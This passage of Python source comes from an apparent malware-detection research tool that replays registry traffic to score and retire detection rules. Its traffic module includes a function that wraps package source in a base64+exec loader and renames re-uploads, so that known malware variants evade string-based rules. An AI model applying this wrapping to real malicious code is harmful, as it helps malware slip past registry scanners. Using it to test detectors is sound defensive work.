            self._entries.values(),
            key=lambda e: (-round(e.score, 9), e.rule, e.namespace),
        )
        for position, entry in enumerate(ordered, start=1):
            entry.previous_rank = entry.rank
            entry.rank = position

    # -- lookups --------------------------------------------------------------------
    def entry(self, namespace: str, rule: str) -> Optional[LeaderboardEntry]:
        return self._entries.get((namespace, rule))

    def set_status(self, namespace: str, rule: str, status: str) -> bool:
        entry = self._entries.get((namespace, rule))
        if entry is None:
            return False
        entry.status = status
        return True

    def rankings(
        self, namespace: Optional[str] = None, limit: Optional[int] = None
    ) -> List[LeaderboardEntry]:
        ordered = sorted(self._entries.values(), key=lambda e: e.rank)
        if namespace is not None:
            ordered = [e for e in ordered if e.namespace == namespace]
        return ordered[:limit] if limit is not None else ordered

    def __len__(self) -> int:
        return len(self._entries)

    def describe(self, limit: int = 10) -> str:
        lines = [entry.describe() for entry in self.rankings(limit=limit)]
        return "\n".join(lines) if lines else "(empty leaderboard)"

    # -- persistence -----------------------------------------------------------------
    def to_dict(self) -> dict:
        return {
            "trend_limit": self.trend_limit,
            "rounds_recorded": self.rounds_recorded,
            "entries": [entry.to_dict() for entry in self.rankings()],
        }

    def save(self, path: Optional[os.PathLike] = None) -> Optional[Path]:
        """Atomically write the board; no-op without a path."""
        target = Path(path) if path is not None else self.path
        if target is None:
            return None
        target.parent.mkdir(parents=True, exist_ok=True)
        # durable: the board is long-lived state a restarted runner reloads,
        # so the write fsyncs the file and its directory entry
        atomic_write_text(
            target, json.dumps(self.to_dict(), indent=2, sort_keys=True) + "\n"
        )
        return target

    def _load(self, path: Path) -> None:
        try:
            data = json.loads(path.read_text(encoding="utf-8"))
        except (OSError, json.JSONDecodeError) as exc:
            raise ValueError(f"unreadable leaderboard file {path}: {exc}") from exc
        self.rounds_recorded = int(data.get("rounds_recorded", 0))
        for raw in data.get("entries", []):
            entry = LeaderboardEntry.from_dict(raw)
            del entry.trend[: -self.trend_limit]
            self._entries[entry.key] = entry


__all__ = [
    "ACTIVE",
    "FLAGGED",
    "Leaderboard",
    "LeaderboardEntry",
    "QUARANTINED",
    "RETIRED",
]
