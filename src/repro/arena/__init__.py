"""repro.arena — continuous rule-quality arena.

Replays seeded adversarial + benign traffic against published ruleset
versions, scores every rule under a pluggable policy, ranks them on a
persistent leaderboard, walks decayed rules through
flag → quarantine → retire, and feeds the misses back through a
generation session so the successor version out-scores what it replaced.

    from repro.arena import ArenaRunner, Leaderboard, ReplayTraffic, TrafficConfig

    traffic = ReplayTraffic(malware, TrafficConfig(seed=7, obfuscation_step=0.5))
    runner = ArenaRunner(service, traffic, leaderboard=Leaderboard(path))
    runner.register_sources(version.version, rule_set)
    record = runner.run_round()          # or runner.start() for auto mode
"""

from repro.arena.leaderboard import Leaderboard, LeaderboardEntry
from repro.arena.lifecycle import (
    LifecycleAction,
    LifecyclePolicy,
    LifecycleTracker,
    RefinementCorpus,
    RuleHealth,
    refine_rules,
)
from repro.arena.runner import ArenaConfig, ArenaRound, ArenaRunner
from repro.arena.scoring import (
    SCORING_POLICIES,
    RuleScore,
    ScoringContext,
    fold_batches,
    get_policy,
    score_batches,
    score_rules,
    scoring_policy,
)
from repro.arena.traffic import (
    ReplayTraffic,
    TrafficConfig,
    mutate_package,
    obfuscate_source,
)

__all__ = [
    "ArenaConfig",
    "ArenaRound",
    "ArenaRunner",
    "Leaderboard",
    "LeaderboardEntry",
    "LifecycleAction",
    "LifecyclePolicy",
    "LifecycleTracker",
    "RefinementCorpus",
    "ReplayTraffic",
    "RuleHealth",
    "RuleScore",
    "SCORING_POLICIES",
    "ScoringContext",
    "TrafficConfig",
    "fold_batches",
    "get_policy",
    "mutate_package",
    "obfuscate_source",
    "refine_rules",
    "score_batches",
    "score_rules",
    "scoring_policy",
]
