"""Policy-driven rule lifecycle: flag, quarantine, retire, refeed.

A rule whose score sits below the decay threshold for one round is noise;
for several *consecutive* rounds it is a liability.  The
:class:`LifecycleTracker` walks every rule through

    active -> flagged -> quarantined -> retired

as its consecutive-decay counter crosses the policy's escalation points,
and emits a typed :class:`LifecycleAction` at each transition (plus a
``recover`` action when a decayed rule climbs back over the threshold,
which resets the walk).  Retirement is terminal per rule name.

The other half of the loop is the :class:`RefinementCorpus`: every
malicious package the *whole ruleset* failed to flag in a round is
collected (deduplicated by content signature, bounded FIFO).  When
retirement fires, :func:`refine_rules` feeds those misses back through a
:class:`~repro.api.session.GenerationSession` — the generate→scan→
evaluate→regenerate loop the paper runs by hand, closed.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, Iterable, List, Optional

from repro.arena.scoring import RuleScore
from repro.corpus.package import Package
from repro.evaluation.detector import DetectionResult

ACTIVE = "active"
FLAGGED = "flagged"
QUARANTINED = "quarantined"
RETIRED = "retired"

FLAG = "flag"
QUARANTINE = "quarantine"
RETIRE = "retire"
RECOVER = "recover"


@dataclass(frozen=True)
class LifecyclePolicy:
    """Escalation schedule over consecutive decayed rounds."""

    decay_threshold: float = 0.4
    flag_after: int = 1
    quarantine_after: int = 2
    retire_after: int = 3

    def __post_init__(self) -> None:
        if not 0.0 <= self.decay_threshold <= 1.0:
            raise ValueError("decay_threshold must be in [0, 1]")
        if not 1 <= self.flag_after <= self.quarantine_after <= self.retire_after:
            raise ValueError(
                "escalation must satisfy 1 <= flag_after <= quarantine_after"
                " <= retire_after"
            )

    def status_for(self, consecutive_decays: int) -> str:
        if consecutive_decays >= self.retire_after:
            return RETIRED
        if consecutive_decays >= self.quarantine_after:
            return QUARANTINED
        if consecutive_decays >= self.flag_after:
            return FLAGGED
        return ACTIVE


@dataclass
class RuleHealth:
    """One rule's position in the lifecycle walk."""

    rule: str
    status: str = ACTIVE
    consecutive_decays: int = 0
    last_score: float = 0.0


@dataclass
class LifecycleAction:
    """One transition the tracker decided on."""

    rule: str
    action: str  # flag | quarantine | retire | recover
    round_index: int
    score: float
    reason: str

    def to_dict(self) -> dict:
        return {
            "rule": self.rule,
            "action": self.action,
            "round_index": self.round_index,
            "score": round(self.score, 6),
            "reason": self.reason,
        }

    def describe(self) -> str:
        return f"round {self.round_index}: {self.action} {self.rule} ({self.reason})"


_STATUS_TO_ACTION = {FLAGGED: FLAG, QUARANTINED: QUARANTINE, RETIRED: RETIRE}


class LifecycleTracker:
    """Walks every scored rule through the lifecycle, round by round."""

    def __init__(self, policy: Optional[LifecyclePolicy] = None) -> None:
        self.policy = policy or LifecyclePolicy()
        self._health: Dict[str, RuleHealth] = {}

    def observe(
        self, scores: Iterable[RuleScore], round_index: int
    ) -> List[LifecycleAction]:
        """Fold one round's verdicts in; return the transitions they caused."""
        actions: List[LifecycleAction] = []
        for verdict in scores:
            health = self._health.setdefault(verdict.rule, RuleHealth(verdict.rule))
            health.last_score = verdict.score
            if health.status == RETIRED:  # terminal: no resurrection
                continue
            if verdict.score < self.policy.decay_threshold:
                health.consecutive_decays += 1
                target = self.policy.status_for(health.consecutive_decays)
                if target != health.status:
                    health.status = target
                    actions.append(
                        LifecycleAction(
                            rule=verdict.rule,
                            action=_STATUS_TO_ACTION[target],
                            round_index=round_index,
                            score=verdict.score,
                            reason=(
                                f"score {verdict.score:.3f} < "
                                f"{self.policy.decay_threshold:g} for "
                                f"{health.consecutive_decays} consecutive round(s)"
                            ),
                        )
                    )
            elif health.consecutive_decays:
                recovered_from = health.status
                health.consecutive_decays = 0
                health.status = ACTIVE
                if recovered_from != ACTIVE:
                    actions.append(
                        LifecycleAction(
                            rule=verdict.rule,
                            action=RECOVER,
                            round_index=round_index,
                            score=verdict.score,
                            reason=(
                                f"score {verdict.score:.3f} back over "
                                f"{self.policy.decay_threshold:g} "
                                f"(was {recovered_from})"
                            ),
                        )
                    )
        return actions

    # -- introspection ---------------------------------------------------------------
    def health(self, rule: str) -> Optional[RuleHealth]:
        return self._health.get(rule)

    def statuses(self) -> Dict[str, str]:
        return {rule: health.status for rule, health in sorted(self._health.items())}

    def retired_rules(self) -> List[str]:
        return sorted(
            rule for rule, health in self._health.items() if health.status == RETIRED
        )


class RefinementCorpus:
    """Missed malicious packages, deduplicated and bounded (FIFO)."""

    def __init__(self, limit: int = 256) -> None:
        if limit < 1:
            raise ValueError("limit must be >= 1")
        self.limit = limit
        self._packages: Dict[str, Package] = {}  # content signature -> package

    def collect_missed(
        self, result: DetectionResult, packages: Iterable[Package]
    ) -> int:
        """Add every malicious package the scan failed to flag.

        Detections carry only the package *identifier*, so the scanned
        ``packages`` (raw or :class:`~repro.evaluation.detector.
        PreparedPackage`-wrapped) are needed to recover the content.
        """
        by_identifier: Dict[str, Package] = {}
        for item in packages:
            package = getattr(item, "package", item)  # unwrap PreparedPackage
            by_identifier[package.identifier] = package
        added = 0
        for detection in result.detections:
            package = by_identifier.get(detection.package)
            if package is None or not detection.actual_malicious:
                continue
            if detection.predicted(result.match_threshold):
                continue
            if self.add(package):
                added += 1
        return added

    def add(self, package: Package) -> bool:
        signature = package.signature
        if signature in self._packages:
            return False
        self._packages[signature] = package
        while len(self._packages) > self.limit:  # FIFO eviction
            oldest = next(iter(self._packages))
            del self._packages[oldest]
        return True

    def packages(self) -> List[Package]:
        return list(self._packages.values())

    def drain(self) -> List[Package]:
        """Return everything collected and reset the corpus."""
        drained = list(self._packages.values())
        self._packages.clear()
        return drained

    def __len__(self) -> int:
        return len(self._packages)


def refine_rules(packages: List[Package], config=None, provider=None, label: str = "arena-refit"):
    """Generate fresh rules from a refinement corpus.

    Runs the full stage chain of a :class:`~repro.api.session.
    GenerationSession` over the missed packages *without* a registry bound
    — the caller decides how the refined rules are published (the arena
    merges them with the surviving rules of the retired version).  Returns
    the session's :class:`~repro.api.session.SessionResult`.
    """
    from repro.api.session import GenerationSession  # deferred: avoid cycle

    if not packages:
        raise ValueError("refinement corpus is empty")
    session = GenerationSession(config=config, provider=provider, registry=None)
    session.add_batch(packages)
    return session.generate(label=label)


__all__ = [
    "ACTIVE",
    "FLAG",
    "FLAGGED",
    "LifecycleAction",
    "LifecyclePolicy",
    "LifecycleTracker",
    "QUARANTINE",
    "QUARANTINED",
    "RECOVER",
    "RETIRE",
    "RETIRED",
    "RefinementCorpus",
    "RuleHealth",
    "refine_rules",
]
