"""Deterministic replay traffic for arena rounds.

An arena round needs a fresh batch of packages that looks like live
registry traffic: malicious re-uploads (exact duplicates and obfuscated
re-wraps of known families — the paper's Section V-B variant structure)
mixed with legitimate packages in a controlled ratio.  Materialising a
corpus per round would dominate the round's cost, so :class:`ReplayTraffic`
streams instead:

* **benign** packages are built lazily, one index at a time, through
  :meth:`repro.corpus.benign_generator.BenignGenerator.build_package` —
  each index is deterministic on its own, so a round can draw package
  #4711 without ever constructing the other 4710;
* **adversarial variants** are derived on the fly from a small seed
  corpus of known malware: a re-upload under a fresh name, optionally
  re-wrapped in the same base64+exec loader the corpus generator uses for
  its obfuscated families (:meth:`MalwareGenerator._obfuscate_module`'s
  shape), so the tell-tale payload strings vanish from the plain text.

Every package of every round derives from
``DeterministicRandom(seed, "arena-traffic", round, slot)`` — two traffic
instances with the same config produce byte-identical rounds, which is
what makes arena scores comparable across runner restarts.

The *escalation* knob models rule decay: the probability that a variant is
wrapped grows by ``obfuscation_step`` per round, so rules keyed on plain
payload strings lose coverage round over round while loader-keyed rules
keep firing — exactly the drift the lifecycle policies react to.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass
from typing import Iterator, Optional, Sequence

from repro.corpus.benign_generator import BenignGenerator, BenignGeneratorConfig
from repro.corpus.package import MALWARE, Package, PackageFile
from repro.utils.seeding import DeterministicRandom

#: Suffixes re-uploaded variants hide behind (classic registry churn).
_REUPLOAD_SUFFIXES = ("rc", "post", "hotfix", "rev", "night", "dev")

#: Fixed wrap chunking: the blob of a wrapped package depends only on the
#: base package's content, so re-wraps of the same base are byte-identical
#: (the ~51% exact-re-upload structure of the paper's corpus) and rules
#: refined from one wrapped miss keep matching later wraps of that base.
_WRAP_CHUNK = 76


@dataclass
class TrafficConfig:
    """Knobs of one replay stream."""

    seed: int = 1633
    packages_per_round: int = 24
    #: Probability an individual slot carries a malicious variant.
    malicious_ratio: float = 0.5
    #: Rounds are streamed (and scored) in chunks of this many packages.
    chunk_size: int = 8
    #: Index space the lazy benign stream draws from.
    benign_pool: int = 5000
    #: Round-0 probability that a malicious variant is loader-wrapped.
    obfuscation_base: float = 0.0
    #: Added to the wrap probability every round (capped at 1.0).
    obfuscation_step: float = 0.0
    #: Probability a variant is re-uploaded under a mutated name.
    rename_probability: float = 0.75
    benign_config: Optional[BenignGeneratorConfig] = None

    def __post_init__(self) -> None:
        if self.packages_per_round < 1:
            raise ValueError("packages_per_round must be >= 1")
        if self.chunk_size < 1:
            raise ValueError("chunk_size must be >= 1")
        if not 0.0 <= self.malicious_ratio <= 1.0:
            raise ValueError("malicious_ratio must be in [0, 1]")
        if self.benign_pool < 1:
            raise ValueError("benign_pool must be >= 1")


def obfuscate_source(content: str) -> str:
    """Wrap python source in the corpus generator's base64+exec loader.

    Deterministic in the content alone (fixed chunking): wrapping the same
    module twice yields the same blob.
    """
    encoded = base64.b64encode(content.encode("utf-8")).decode("ascii")
    pieces = [encoded[i : i + _WRAP_CHUNK] for i in range(0, len(encoded), _WRAP_CHUNK)]
    joined = "\n".join(f'    "{piece}"' for piece in pieces)
    return (
        '"""Core module."""\n'
        "import base64\n\n"
        "_blob = (\n" + joined + "\n)\n\n"
        'exec(compile(base64.b64decode(_blob), "<core>", "exec"))\n'
    )


def mutate_package(
    base: Package, rng: DeterministicRandom, wrap: bool, rename: bool = True
) -> Package:
    """Derive one adversarial re-upload of ``base``.

    ``rename`` gives the upload a fresh ``name==version`` identity;
    ``wrap`` re-encodes every python file behind the loader so only the
    loader pattern stays visible to string rules.  File contents are left
    byte-identical when not wrapping — a plain re-upload must keep firing
    exactly the rules the base fired.
    """
    if rename:
        suffix = rng.choice(_REUPLOAD_SUFFIXES)
        name = f"{base.name}-{suffix}{rng.randint(0, 99)}"
    else:
        name = base.name
    version = f"{rng.randint(0, 4)}.{rng.randint(0, 9)}.{rng.randint(0, 9)}"
    files = []
    for entry in base.files:
        content = entry.content
        if wrap and entry.path.endswith(".py"):
            content = obfuscate_source(content)
        files.append(PackageFile(entry.path, content))
    return Package(
        name=name,
        version=version,
        metadata=base.metadata,
        files=files,
        label=MALWARE,
        family=base.family,
        behaviors=list(base.behaviors),
        obfuscated=wrap or base.obfuscated,
    )


class ReplayTraffic:
    """Seeded, non-materialising package stream for arena rounds."""

    def __init__(
        self,
        malware: Sequence[Package],
        config: Optional[TrafficConfig] = None,
    ) -> None:
        self.config = config or TrafficConfig()
        self._malware = list(malware)
        if not self._malware and self.config.malicious_ratio > 0.0:
            raise ValueError(
                "a non-zero malicious_ratio needs a seed malware corpus"
            )
        benign_config = self.config.benign_config or BenignGeneratorConfig(
            package_count=self.config.benign_pool,
            seed=self.config.seed,
            # lazy draws land on arbitrary indices; popular names only cover
            # a fixed prefix and would make low indices special
            use_popular_names=False,
            modules_range=(2, 4),
            pieces_per_module_range=(6, 12),
        )
        self._benign = BenignGenerator(benign_config)

    # -- round composition ----------------------------------------------------------
    def obfuscation_probability(self, round_index: int) -> float:
        """Wrap probability for ``round_index`` (escalates per round)."""
        raw = self.config.obfuscation_base + round_index * self.config.obfuscation_step
        return min(1.0, max(0.0, raw))

    def round_chunks(self, round_index: int) -> Iterator[list[Package]]:
        """Stream one round as chunks of ``chunk_size`` packages."""
        chunk: list[Package] = []
        for slot in range(self.config.packages_per_round):
            chunk.append(self._slot_package(round_index, slot))
            if len(chunk) >= self.config.chunk_size:
                yield chunk
                chunk = []
        if chunk:
            yield chunk

    def round_packages(self, round_index: int) -> list[Package]:
        """One full round, materialised (tests and small demos)."""
        packages: list[Package] = []
        for chunk in self.round_chunks(round_index):
            packages.extend(chunk)
        return packages

    # -- slot derivation -------------------------------------------------------------
    def _slot_package(self, round_index: int, slot: int) -> Package:
        rng = DeterministicRandom(
            self.config.seed, "arena-traffic", f"r{round_index}", f"s{slot}"
        )
        if self._malware and rng.coin(self.config.malicious_ratio):
            return self._variant(rng, round_index)
        return self._benign_package(rng)

    def _variant(self, rng: DeterministicRandom, round_index: int) -> Package:
        base = rng.choice(self._malware)
        wrap = rng.coin(self.obfuscation_probability(round_index))
        rename = rng.coin(self.config.rename_probability)
        return mutate_package(base, rng, wrap=wrap, rename=rename)

    def _benign_package(self, rng: DeterministicRandom) -> Package:
        index = rng.randint(0, self.config.benign_pool - 1)
        return self._benign.build_package(index)


__all__ = [
    "ReplayTraffic",
    "TrafficConfig",
    "mutate_package",
    "obfuscate_source",
]
