"""Per-shard fleet checkpoints: resume an interrupted orchestrator run.

A fleet run is identified by a *run key* — a digest over everything that
determines its output: the shard plan, publish mode, model, seed, and every
shard's label plus the content fingerprints of its packages.  Two runs over
the same corpus with the same configuration share a key; change any input
and the key (and therefore the checkpoints) no longer match, so ``--resume``
can never splice stale shard output into a different run.

As each shard finishes, :class:`FleetCheckpointer` serializes its
:class:`~repro.core.rules.GeneratedRuleSet` to a content-addressed blob and
journals a ``shard-complete`` record.  On resume, :meth:`reconcile` replays
the journal, classifies every planned shard as *finished* (checkpoint blob
present and intact), or *missing* (no checkpoint — including shards whose
record or blob a crash tore away, which fsck already cleaned), and the
orchestrator re-runs only the missing ones.  Because the registry merge is
deterministic over shard outputs in plan order, the resumed merge is
bit-identical to an uninterrupted run.
"""

from __future__ import annotations

import hashlib
import json
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Optional, Sequence

from repro.core.rules import GeneratedRule, GeneratedRuleSet
from repro.store.journal import FLEET_MERGE, FLEET_START, SHARD_COMPLETE
from repro.store.recovery import RuleStore
from repro.store.snapshots import MissingBlob

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.corpus.package import Package


# -- rule-set blob codec ------------------------------------------------------------
#
# Checkpoint blobs hold *generated text*, not compiled engines: a resumed
# merge recompiles through the exact publish path an uninterrupted run takes,
# which is what makes the outputs bit-identical.

def _rule_to_dict(rule: GeneratedRule) -> dict:
    return {
        "format": rule.format,
        "name": rule.name,
        "text": rule.text,
        "cluster_id": rule.cluster_id,
        "source_packages": list(rule.source_packages),
        "analysis_text": rule.analysis_text,
        "fix_attempts": rule.fix_attempts,
        "compiled_ok": rule.compiled_ok,
        "origin": rule.origin,
    }


def _rule_from_dict(data: dict) -> GeneratedRule:
    return GeneratedRule(
        format=str(data["format"]),
        name=str(data["name"]),
        text=str(data["text"]),
        cluster_id=data.get("cluster_id"),
        source_packages=[str(p) for p in data.get("source_packages", [])],
        analysis_text=str(data.get("analysis_text", "")),
        fix_attempts=int(data.get("fix_attempts", 0)),
        compiled_ok=bool(data.get("compiled_ok", True)),
        origin=str(data.get("origin", "code")),
    )


def rule_set_to_blob(rule_set: GeneratedRuleSet) -> bytes:
    """Serialize a rule set (rules + rejections + model) to a stable blob."""
    payload = {
        "model": rule_set.model,
        "rules": [_rule_to_dict(rule) for rule in rule_set.rules],
        "rejected": [_rule_to_dict(rule) for rule in rule_set.rejected],
    }
    return json.dumps(payload, sort_keys=True, separators=(",", ":")).encode("utf-8")


def rule_set_from_blob(blob: bytes) -> GeneratedRuleSet:
    payload = json.loads(blob.decode("utf-8"))
    return GeneratedRuleSet(
        rules=[_rule_from_dict(r) for r in payload.get("rules", [])],
        rejected=[_rule_from_dict(r) for r in payload.get("rejected", [])],
        model=str(payload.get("model", "")),
    )


# -- run identity -------------------------------------------------------------------

def shard_fingerprint(label: str, packages: Sequence["Package"]) -> str:
    """Digest one shard's identity: its label + each package's content."""
    hasher = hashlib.sha256()
    hasher.update(label.encode("utf-8"))
    for package in packages:
        hasher.update(b"\x00")
        hasher.update(package.identifier.encode("utf-8"))
        hasher.update(b"\x01")
        hasher.update(package.signature.encode("utf-8"))
    return hasher.hexdigest()


def fleet_run_key(
    plan: str,
    publish: str,
    model: str,
    seed: int,
    shard_prints: Sequence[tuple[str, str]],
) -> str:
    """Digest a whole run's identity from its config + shard fingerprints."""
    hasher = hashlib.sha256()
    for part in (plan, publish, model, str(seed)):
        hasher.update(part.encode("utf-8"))
        hasher.update(b"\x00")
    for label, fingerprint in shard_prints:
        hasher.update(label.encode("utf-8"))
        hasher.update(b"\x01")
        hasher.update(fingerprint.encode("utf-8"))
        hasher.update(b"\x02")
    return hasher.hexdigest()


@dataclass
class ShardCheckpoint:
    """One recovered shard: its prior output, ready to splice into a merge."""

    label: str
    rule_set: GeneratedRuleSet
    seconds: float = 0.0
    epoch: int = 0  # journal epoch of the shard-complete record


@dataclass
class FleetReconciliation:
    """How a planned fleet lines up against the journal's checkpoints."""

    run_key: str
    finished: dict[str, ShardCheckpoint] = field(default_factory=dict)
    missing: list[str] = field(default_factory=list)
    damaged: list[str] = field(default_factory=list)  # record present, blob gone
    merged_epoch: Optional[int] = None  # a prior run already merged

    @property
    def resumable(self) -> bool:
        return bool(self.finished) and self.merged_epoch is None

    def describe(self) -> str:
        parts = [
            f"run {self.run_key[:12]}: {len(self.finished)} finished, "
            f"{len(self.missing)} missing"
        ]
        if self.damaged:
            parts.append(f"{len(self.damaged)} damaged (will re-run)")
        if self.merged_epoch is not None:
            parts.append(f"already merged at epoch {self.merged_epoch}")
        return ", ".join(parts)


class FleetCheckpointer:
    """Journal-backed checkpoint log for one orchestrator fleet."""

    def __init__(self, store: RuleStore) -> None:
        self.store = store

    # -- writing ------------------------------------------------------------------
    def begin(self, run_key: str, shard_labels: Sequence[str], plan: str,
              publish: str) -> int:
        return self.store.journal.append(
            FLEET_START,
            {
                "run_key": run_key,
                "shards": list(shard_labels),
                "plan": plan,
                "publish": publish,
            },
        )

    def shard_complete(
        self,
        run_key: str,
        label: str,
        rule_set: GeneratedRuleSet,
        seconds: float = 0.0,
    ) -> int:
        """Blob the shard's output, then journal it (write-ahead order)."""
        digest = self.store.blobs.put(rule_set_to_blob(rule_set))
        return self.store.journal.append(
            SHARD_COMPLETE,
            {
                "run_key": run_key,
                "label": label,
                "rules_blob": digest,
                "rules": len(rule_set.rules),
                "rejected": len(rule_set.rejected),
                "seconds": round(seconds, 6),
            },
        )

    def merge_complete(self, run_key: str, version: Optional[int],
                       cache_key: str = "") -> int:
        return self.store.journal.append(
            FLEET_MERGE,
            {"run_key": run_key, "version": version, "cache_key": cache_key},
        )

    # -- reading ------------------------------------------------------------------
    def reconcile(
        self, run_key: str, shard_labels: Sequence[str]
    ) -> FleetReconciliation:
        """Classify every planned shard against the journal's checkpoints.

        Matching is by ``run_key`` (not epoch), so checkpoints survive
        ``store compact`` re-appending them past a snapshot.  A later
        checkpoint for the same shard wins; a checkpoint whose blob is
        missing or decayed counts as *damaged* and the shard re-runs.
        """
        recon = FleetReconciliation(run_key=run_key)
        latest: dict[str, ShardCheckpoint] = {}
        for record in self.store.journal.replay():
            if record.data.get("run_key") != run_key:
                continue
            if record.type == SHARD_COMPLETE:
                label = str(record.data.get("label", ""))
                digest = str(record.data.get("rules_blob", ""))
                try:
                    rule_set = rule_set_from_blob(
                        self.store.blobs.get_verified(digest)
                    )
                except (MissingBlob, ValueError):
                    latest.pop(label, None)
                    if label not in recon.damaged:
                        recon.damaged.append(label)
                    continue
                latest[label] = ShardCheckpoint(
                    label=label,
                    rule_set=rule_set,
                    seconds=float(record.data.get("seconds", 0.0)),
                    epoch=record.epoch,
                )
            elif record.type == FLEET_MERGE:
                recon.merged_epoch = record.epoch
        for label in shard_labels:
            if label in latest:
                recon.finished[label] = latest[label]
            else:
                recon.missing.append(label)
        return recon


__all__ = [
    "FleetCheckpointer",
    "FleetReconciliation",
    "ShardCheckpoint",
    "fleet_run_key",
    "rule_set_from_blob",
    "rule_set_to_blob",
    "shard_fingerprint",
]
