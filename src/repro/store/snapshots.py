"""Content-addressed blob store and journal-anchored snapshot manifests.

The journal records *what happened*; the blob store holds *the bytes that
happened* — compiled :class:`~repro.scanserve.registry.RulesetVersion`
payloads, whole-registry snapshots, serialized fleet shard outputs.  Blobs
are addressed by the SHA-256 of their content (``blobs/<aa>/<digest>.blob``),
so identical payloads written twice cost one file, writes are naturally
idempotent, and a digest recorded in a journal record *is* an integrity
check on the payload it points at.

A :class:`SnapshotManifest` caps a journal prefix: "at epoch E the full
registry state was this blob".  Recovery then becomes *load the latest
manifest's blob + replay the journal tail after E* instead of replaying
history from epoch zero, and compaction becomes *drop every sealed segment
at or below E*.  Manifests are tiny JSON files written atomically and kept
in order (``snapshots/snapshot-<epoch>.json``); the newest valid one wins,
so a crash mid-manifest-write can only lose the newest snapshot, never
corrupt recovery (the previous manifest plus a longer tail replay still
reconstructs the same state).
"""

from __future__ import annotations

import hashlib
import json
import os
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Iterator, Optional

from repro.utils.atomic import atomic_write_bytes, atomic_write_text

_BLOB_SUFFIX = ".blob"
_MANIFEST_PREFIX = "snapshot-"


def blob_digest(blob: bytes) -> str:
    return hashlib.sha256(blob).hexdigest()


class MissingBlob(LookupError):
    """A digest the journal or a manifest references has no blob on disk."""


class BlobStore:
    """Content-addressed, write-once blob directory.

    Two-level fan-out (first byte of the digest) keeps directories small at
    registry scale.  Writes are atomic and durable; re-writing an existing
    digest is a no-op (content addressing makes it the same bytes by
    construction).
    """

    def __init__(self, directory: str | os.PathLike, durable: bool = True) -> None:
        self.directory = Path(directory)
        self.directory.mkdir(parents=True, exist_ok=True)
        self.durable = durable

    def _path(self, digest: str) -> Path:
        if len(digest) < 3 or not all(c in "0123456789abcdef" for c in digest):
            raise ValueError(f"not a blob digest: {digest!r}")
        return self.directory / digest[:2] / f"{digest}{_BLOB_SUFFIX}"

    # -- writing ------------------------------------------------------------------
    def put(self, blob: bytes) -> str:
        digest = blob_digest(blob)
        path = self._path(digest)
        if not path.exists():
            path.parent.mkdir(parents=True, exist_ok=True)
            atomic_write_bytes(path, blob, durable=self.durable)
        return digest

    # -- reading ------------------------------------------------------------------
    def get(self, digest: str) -> bytes:
        try:
            blob = self._path(digest).read_bytes()
        except OSError:
            raise MissingBlob(f"missing blob {digest}") from None
        return blob

    def get_verified(self, digest: str) -> bytes:
        """Read a blob and verify its content still matches its address."""
        blob = self.get(digest)
        actual = blob_digest(blob)
        if actual != digest:
            raise MissingBlob(f"blob {digest} decayed on disk (reads as {actual})")
        return blob

    def __contains__(self, digest: str) -> bool:
        try:
            return self._path(digest).exists()
        except ValueError:
            return False

    def digests(self) -> Iterator[str]:
        for path in sorted(self.directory.glob(f"*/*{_BLOB_SUFFIX}")):
            yield path.stem

    def stats(self) -> dict:
        count = 0
        total = 0
        for path in self.directory.glob(f"*/*{_BLOB_SUFFIX}"):
            count += 1
            try:
                total += path.stat().st_size
            except OSError:
                pass
        return {"blobs": count, "bytes": total}

    def remove_strays(self) -> int:
        """Delete scratch files a crash left mid-write (never whole blobs)."""
        removed = 0
        for stray in self.directory.glob("*/*.tmp"):
            try:
                stray.unlink()
                removed += 1
            except OSError:
                pass
        return removed

    def delete(self, digest: str) -> bool:
        try:
            self._path(digest).unlink()
            return True
        except (OSError, ValueError):
            return False

    def collect_garbage(self, live: set[str]) -> int:
        """Delete every blob not in ``live``; returns how many went."""
        removed = 0
        for digest in list(self.digests()):
            if digest not in live:
                removed += self.delete(digest)
        return removed


@dataclass(frozen=True)
class SnapshotManifest:
    """One "registry state as of epoch E" marker.

    ``registry_blob`` is the :meth:`RulesetRegistry.to_bytes` payload;
    ``version_blobs`` maps each live version number to its standalone
    :meth:`RulesetVersion.to_bytes` blob so shard workers (and partial
    recovery) can attach per version without decoding the whole registry.
    """

    epoch: int
    registry_blob: str
    version_blobs: dict[int, str] = field(default_factory=dict)
    current_version: Optional[int] = None
    namespace: str = ""
    created_at: float = field(default_factory=time.time)

    def to_dict(self) -> dict:
        return {
            "epoch": self.epoch,
            "registry_blob": self.registry_blob,
            "version_blobs": {str(k): v for k, v in self.version_blobs.items()},
            "current_version": self.current_version,
            "namespace": self.namespace,
            "created_at": self.created_at,
        }

    @classmethod
    def from_dict(cls, data: dict) -> "SnapshotManifest":
        return cls(
            epoch=int(data["epoch"]),
            registry_blob=str(data["registry_blob"]),
            version_blobs={
                int(k): str(v) for k, v in dict(data.get("version_blobs", {})).items()
            },
            current_version=(
                int(data["current_version"])
                if data.get("current_version") is not None
                else None
            ),
            namespace=str(data.get("namespace", "")),
            created_at=float(data.get("created_at", 0.0)),
        )

    def referenced_blobs(self) -> set[str]:
        return {self.registry_blob, *self.version_blobs.values()}


class ManifestIndex:
    """The ordered set of snapshot manifests under ``snapshots/``."""

    def __init__(self, directory: str | os.PathLike, durable: bool = True) -> None:
        self.directory = Path(directory)
        self.directory.mkdir(parents=True, exist_ok=True)
        self.durable = durable

    def _path(self, epoch: int) -> Path:
        return self.directory / f"{_MANIFEST_PREFIX}{epoch:012d}.json"

    def write(self, manifest: SnapshotManifest) -> Path:
        path = self._path(manifest.epoch)
        atomic_write_text(
            path,
            json.dumps(manifest.to_dict(), indent=2, sort_keys=True) + "\n",
            durable=self.durable,
        )
        return path

    def paths(self) -> list[Path]:
        return sorted(self.directory.glob(f"{_MANIFEST_PREFIX}*.json"))

    def all(self) -> list[SnapshotManifest]:
        manifests = []
        for path in self.paths():
            loaded = self._load(path)
            if loaded is not None:
                manifests.append(loaded)
        return manifests

    def latest(self) -> Optional[SnapshotManifest]:
        for path in reversed(self.paths()):
            loaded = self._load(path)
            if loaded is not None:
                return loaded
        return None

    @staticmethod
    def _load(path: Path) -> Optional[SnapshotManifest]:
        try:
            return SnapshotManifest.from_dict(
                json.loads(path.read_text(encoding="utf-8"))
            )
        except (OSError, ValueError, KeyError, TypeError):
            return None  # unreadable manifest: fall back to the previous one

    def prune_before(self, epoch: int) -> int:
        """Drop superseded manifests older than ``epoch`` (keep the newest)."""
        removed = 0
